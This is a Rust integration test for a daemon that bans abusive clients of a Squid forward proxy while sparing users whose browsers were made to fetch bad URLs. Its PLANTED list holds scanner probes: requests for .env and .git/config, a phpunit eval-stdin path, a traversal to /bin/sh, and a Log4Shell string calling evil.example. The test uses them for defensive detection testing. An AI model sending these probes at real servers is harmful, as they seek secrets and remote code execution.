//! A forward proxy as docs/forward-proxy.md sets it up: the clients are the proxy's own users, on real Squid, from real addresses.

use std::fs;
use std::net::{Ipv4Addr, TcpListener};

use crate::harness::{Daemon, Stage, wait_until};
use crate::rig::{Network, Origin, SERVER, Squid, example};

const PORT: u16 = 3128;
const CLOSE: &str = "Connection: close\r\n\r\n";
const BROWSER: &str = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0\r\n";

/// What pages on plain HTTP sites can make a browser send.
const PLANTED: &[&str] = &[
    "http://elsewhere.example/.env",
    "http://elsewhere.example/.git/config",
    "http://elsewhere.example/w00tw00t.at.ISC.SANS.DFind:)",
    "http://elsewhere.example/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "http://192.168.1.1/cgi-bin/luci",
    "http://elsewhere.example/cgi-bin/..%2f..%2fbin/sh",
    "http://elsewhere.example/?x=${jndi:ldap://evil.example/a}",
    "http://judge.example/azenv.php",
    "http://azenv.net/",
    "http://elsewhere.example/missing/wp-login.php",
];

/// Squid as Debian configures it for users in 198.51.100.0/26, with an example in `conf.d`. The origin serves every site but those on HTTPS.
fn start(stage: &Stage, origin: &Origin, name: &str, tunnel: u16) -> Squid {
    let logged = "acl strikeout_logged any-of strikeout_unasked strikeout_error strikeout_post";
    let text = stage.squid_example(name);
    assert!(text.contains(logged), "{name} does not say {logged:?}");
    let fragment = format!(
        "http_port {SERVER}:{PORT}\n\
         dns_nameservers 127.0.0.1\n\
         never_direct deny CONNECT\n\
         never_direct allow all\n\
         acl localnet src 198.51.100.0/26\n\
         acl SSL_ports port 443 {tunnel}\n\
         http_access deny CONNECT !SSL_ports\n\
         {}\n\
         http_access allow localnet\n\
         http_access deny all\n",
        text.replace(logged, "acl strikeout_logged any-of strikeout_unasked")
    );
    Squid::start(stage, origin, &fragment)
}

/// An HTTPS site that ends each connection at once. Returns its port.
fn https_site() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || listener.incoming().for_each(drop));
    port
}

fn get(network: &Network, client: &str, url: &str, headers: &str) -> u16 {
    network.send(client, PORT, format!("GET {url} HTTP/1.1\r\nHost: x.example\r\n{headers}{CLOSE}").as_bytes())
}

fn connect(network: &Network, client: &str, host: &str) -> u16 {
    network.send(client, PORT, format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n{BROWSER}{CLOSE}").as_bytes())
}

fn struck_by(daemon: &Daemon, client: &str) -> Vec<String> {
    let why = daemon.json(&["why", client]);
    why["strikes"].as_array().unwrap().iter().map(|strike| strike["rule"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn users_of_a_forward_proxy_are_refused_only_for_what_no_page_can_make_a_browser_send() {
    let Some(_) = Stage::with_squid() else { return };
    Network::with(|network| {
        for name in ["squid-failopen.conf", "squid.conf"] {
            let stage = Stage::with_squid().unwrap();
            let (origin, tunnel) = (Origin::start(), https_site());
            let log = stage.squid_log();
            let rules = example("forward-proxy.toml", &[("/var/log/squid/strikeout.log", log.to_str().unwrap())]);
            let daemon = stage.daemon(&rules);
            let squid = start(&stage, &origin, name, tunnel);
            let https = format!("127.0.0.1:{tunnel}");
            let [visitor, spammer, tracer, colleague, stranger] = [10, 11, 12, 13, 70].map(|last| format!("198.51.100.{last}"));

            // A visitor of bad pages, whose browser is Firefox: there, a script may set the User-Agent.
            let mut asked = 0;
            for _ in 0..4 {
                for url in PLANTED {
                    for agent in [BROWSER, "User-Agent: sqlmap/1.7\r\n"] {
                        let status = get(network, &visitor, url, agent);
                        assert_eq!(status, if url.contains("missing") { 404 } else { 200 }, "{name}: {url}");
                        asked += 1;
                    }
                }
                for host in [&https, "127.0.0.1:2525"] {
                    assert_eq!(connect(network, &visitor, host), if *host == *https { 200 } else { 403 }, "{name}: {host}");
                    asked += 1;
                }
            }

            // A computer that sends spam.
            for _ in 0..10 {
                assert_eq!(connect(network, &spammer, "mail.example.org:25"), 403);
                assert_eq!(connect(network, &stranger, "mail.example.org:25"), 403);
            }
            wait_until("the spammer is refused", || get(network, &spammer, "http://x.example/", BROWSER) == 429);
            assert_eq!(connect(network, &spammer, &https), 429, "{name}: HTTPS");
            let why = daemon.json(&["why", &spammer]);
            assert_eq!(why["services"]["web"]["rule"], "proxy-mail-relay", "{why}");
            assert!(daemon.ask(&format!("check {spammer}")).starts_with("accept"), "its mail");

            let trace = format!("TRACE http://x.example/ HTTP/1.1\r\nHost: x.example\r\nMax-Forwards: 0\r\n{CLOSE}");
            let answers = [(); 10].map(|()| network.send(&tracer, PORT, trace.as_bytes()));
            assert_eq!(answers, [200, 200, 200, 200, 200, 200, 200, 200, 200, 429], "{name}");

            assert_eq!(get(network, &colleague, "http://x.example/", BROWSER), 200);
            assert_eq!(connect(network, &colleague, &https), 200);
            assert_eq!(get(network, &visitor, "http://x.example/", BROWSER), 200, "{name}: {:?}", struck_by(&daemon, &visitor));
            wait_until("the stranger is banned too", || daemon.number("bans") == 3);
            // squid-failopen.conf asks only about what `http_access` allows.
            let refused = if name == "squid.conf" { 429 } else { 403 };
            assert_eq!(get(network, &stranger, "http://x.example/", BROWSER), refused, "{name}");
            println!("{name}: {asked} requests of an innocent visitor, none refused; 3 of 3 offenders banned");

            // Nothing that users were served, or were refused by another site, is written to the log.
            let told = fs::read_to_string(&log).unwrap();
            assert!(told.contains(" CONNECT mail.example.org:25 - "), "{told}");
            assert!(!told.contains("missing") && told.lines().all(|line| line.split(' ').nth(6) == Some("-")), "{told}");
            squid.assert_clean_log();
        }
    });
}

#[test]
fn with_the_users_networks_in_ignoreip_only_strangers_are_judged_by_every_rule() {
    let Some(stage) = Stage::with_squid() else { return };
    Network::with(|network| {
        let (origin, tunnel) = (Origin::start(), https_site());
        let daemon = stage.daemon(&format!("[defaults]\nignoreip = ['198.51.100.0/26']\n[[log]]\npath = {:?}\n", stage.squid_log()));
        let _squid = start(&stage, &origin, "squid-failopen.conf", tunnel);
        let [user, stranger, other] = [10, 70, 71].map(|last| format!("198.51.100.{last}"));
        for url in PLANTED {
            assert_ne!(get(network, &user, url, BROWSER), 429, "{url}");
        }
        assert_eq!(get(network, &stranger, "http://elsewhere.example/.env", BROWSER), 403);
        for _ in 0..10 {
            assert_eq!(get(network, &other, "http://judge.example/azenv.php", BROWSER), 403);
        }
        wait_until("the strangers are banned", || daemon.number("bans") == 2);
        let [first, second] = [&stranger, &other].map(|client| daemon.json(&["why", client])["services"]["web"]["rule"].clone());
        assert_eq!((first, second), ("env-file".into(), "proxy-judge".into()));
        assert_eq!(get(network, &user, "http://x.example/", BROWSER), 200);
    });
}
